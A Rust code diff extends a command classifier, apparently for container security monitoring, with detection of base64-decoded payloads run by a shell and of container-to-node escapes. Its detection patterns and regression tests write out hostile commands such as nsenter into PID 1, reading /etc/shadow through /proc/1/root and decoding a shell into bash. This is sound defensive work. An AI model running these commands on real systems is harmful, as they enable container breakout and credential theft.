@@ -23,6 +23,14 @@ pub enum ExecClass {
     Discovery,
     /// Installing tools or running known offensive tools and miners.
     Tooling,
+    /// A payload decoded and run, its text hidden from the log: `echo … | base64 -d | sh`,
+    /// `eval "$(… | base64 --decode)"`, `python -c 'exec(base64.b64decode(…))'`,
+    /// `powershell -enc …`.
+    ObfuscatedRun,
+    /// Leaving the container for its node: `nsenter` into PID 1's namespaces, `chroot` into
+    /// the node's root mounted in the pod, `/proc/1/root`, the container runtime's socket,
+    /// a cgroup `release_agent`, the node's disk mounted.
+    HostEscape,
 }
 
 impl ExecClass {
@@ -37,6 +45,8 @@ impl ExecClass {
             ExecClass::TarCopy => "tar-copy",
             ExecClass::Discovery => "discovery",
             ExecClass::Tooling => "tooling",
+            ExecClass::ObfuscatedRun => "obfuscated-run",
+            ExecClass::HostEscape => "host-escape",
         }
     }
 }
@@ -106,10 +116,25 @@ pub fn classify(argv: &[String], stdin: bool, tty: bool) -> Vec<ExecClass> {
     if TOOLS.iter().any(|t| words(&lower).any(|w| w == *t)) {
         out.push(ExecClass::Tooling);
     }
+    if is_obfuscated_run(&lower) {
+        out.push(ExecClass::ObfuscatedRun);
+    }
+    if is_host_escape(&lower) {
+        out.push(ExecClass::HostEscape);
+    }
     if out.is_empty() && DISCOVERY.iter().any(|d| words(&lower).any(|w| w == *d)) {
         out.push(ExecClass::Discovery);
     }
     out
+}
+
+/// A known offensive tool, tunnel or miner other than kubectl (which every CI job runs).
+pub fn runs_offensive_tool(argv: &[String]) -> bool {
+    let lower = argv.join(" ").to_ascii_lowercase();
+    TOOLS
+        .iter()
+        .filter(|t| **t != "kubectl")
+        .any(|t| words(&lower).any(|w| w == *t))
 }
 
 /// `/proc/<pid>/environ` of any process (secrets passed in environment variables).
@@ -202,6 +227,80 @@ fn is_download_and_run(lower: &str) -> bool {
         || lower.contains("| iex")
         || lower.contains("exec(");
     pipes_to_shell || substituted || runs_file
+}
+
+/// A decoder's output run by a shell or an interpreter (see [`ExecClass::ObfuscatedRun`]).
+fn is_obfuscated_run(lower: &str) -> bool {
+    let decodes = |seg: &str| {
+        let has = |w: &str| words(seg).any(|x| x == w);
+        (has("base64") && (seg.contains(" -d") || seg.contains("--decode") || seg.contains(" -D")))
+            || (has("xxd") && seg.contains(" -r"))
+            || (has("openssl") && seg.contains(" -d"))
+            || seg.contains("b64decode")
+            || seg.contains("frombase64string")
+    };
+    let runs = |w: &str| {
+        is_shell(w)
+            || matches!(
+                program(w),
+                "python" | "python3" | "python2" | "perl" | "ruby" | "php" | "node" | "eval"
+            )
+    };
+    // … | base64 -d | sh
+    let segs: Vec<&str> = lower.split('|').collect();
+    let piped = segs
+        .windows(2)
+        .any(|w| decodes(w[0]) && w[1].split_whitespace().next().is_some_and(runs));
+    // eval "$(… base64 -d)", sh -c "$(… | base64 -d)", exec(base64.b64decode(…))
+    let evaluated = decodes(lower)
+        && (words(lower).any(|w| w == "eval" || w == "iex")
+            || lower.contains("exec(")
+            || [" -c $(", " -c \"$(", " -c '$("]
+                .iter()
+                .any(|p| lower.contains(p)));
+    let encoded_powershell = words(lower).any(|w| w == "powershell" || w == "pwsh")
+        && lower
+            .split_whitespace()
+            .any(|t| matches!(t, "-enc" | "-e" | "-encodedcommand" | "-ec"));
+    piped || evaluated || encoded_powershell
+}
+
+/// A command that reaches the node from inside the container (see [`ExecClass::HostEscape`]).
+fn is_host_escape(lower: &str) -> bool {
+    const HOST_ROOTS: &[&str] = &[
+        "/host",
+        "/rootfs",
+        "/hostfs",
+        "/host-root",
+        "/node",
+        "/mnt/host",
+    ];
+    let tokens: Vec<&str> = lower
+        .split(|c: char| c.is_whitespace() || ";|&'\"`()".contains(c))
+        .filter(|t| !t.is_empty())
+        .collect();
+    let nsenter_init = tokens.iter().enumerate().any(|(i, t)| {
+        program(t) == "nsenter"
+            && tokens[i + 1..].windows(2).any(|w| {
+                matches!(w[0], "-t" | "--target") && w[1] == "1"
+            } || w[0] == "--target=1" || w[0] == "-t1")
+    });
+    let chroot_host = tokens
+        .windows(2)
+        .any(|w| program(w[0]) == "chroot" && HOST_ROOTS.contains(&w[1].trim_end_matches('/')));
+    nsenter_init
+        || chroot_host
+        || lower.contains("/proc/1/root")
+        || lower.contains("docker.sock")
+        || lower.contains("containerd.sock")
+        || lower.contains("crio.sock")
+        || lower.contains("release_agent")
+        || lower.contains("core_pattern")
+        || (words(lower).any(|w| w == "mount" || w == "debugfs")
+            && (lower.contains("/dev/sd")
+                || lower.contains("/dev/nvme")
+                || lower.contains("/dev/vd")
+                || lower.contains("/dev/xvd")))
 }
 
 /// A fetching tool (`curl`, `wget`, PowerShell's `iwr`) given the URL of a remote host.
@@ -450,6 +549,45 @@ mod tests {
             .contains(&"download-and-run")
         );
         assert!(c(&["bash", "-c", "bash <(curl -s https://h/x)"]).contains(&"download-and-run"));
+    }
+
+    /// `echo <b64> | base64 -d | bash` and `nsenter -t 1 … bash` were discovery at most.
+    #[test]
+    fn regression_decoded_payloads_and_node_escapes_were_not_classified() {
+        let run = "obfuscated-run";
+        assert!(c(&["sh", "-c", "echo YmFzaCAtaQ== | base64 -d | bash"]).contains(&run));
+        assert!(c(&["bash", "-c", "eval \"$(echo aWQ= | base64 --decode)\""]).contains(&run));
+        assert!(c(&["sh", "-c", "$(echo aWQK | base64 -d)"]).contains(&run));
+        assert!(
+            c(&[
+                "python3",
+                "-c",
+                "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"
+            ])
+            .contains(&run)
+        );
+        assert!(c(&["powershell", "-enc", "SQBFAFgA"]).contains(&run));
+        // Decoding a value to read it runs nothing.
+        assert!(!c(&["sh", "-c", "cat /tmp/v | base64 -d"]).contains(&run));
+        assert!(!c(&["base64", "-d", "/tmp/v"]).contains(&run));
+
+        let escape = "host-escape";
+        assert!(
+            c(&[
+                "nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash"
+            ])
+            .contains(&escape)
+        );
+        assert!(c(&["nsenter", "--target", "1", "--mount", "sh"]).contains(&escape));
+        assert!(c(&["sh", "-c", "nsenter --target=1 --all bash"]).contains(&escape));
+        assert!(c(&["chroot", "/host", "bash"]).contains(&escape));
+        assert!(c(&["sh", "-c", "cat /proc/1/root/etc/shadow"]).contains(&escape));
+        assert!(c(&["sh", "-c", "docker -H unix:///var/run/docker.sock ps"]).contains(&escape));
+        assert!(c(&["sh", "-c", "mkdir /m && mount /dev/sda1 /m"]).contains(&escape));
+        // nsenter into the container's own namespaces, chroot elsewhere: not the node.
+        assert!(!c(&["nsenter", "-t", "4242", "-n", "ip", "a"]).contains(&escape));
+        assert!(!c(&["chroot", "/srv/jail", "sh"]).contains(&escape));
+        assert!(!c(&["mount"]).contains(&escape));
     }
 
     #[test]
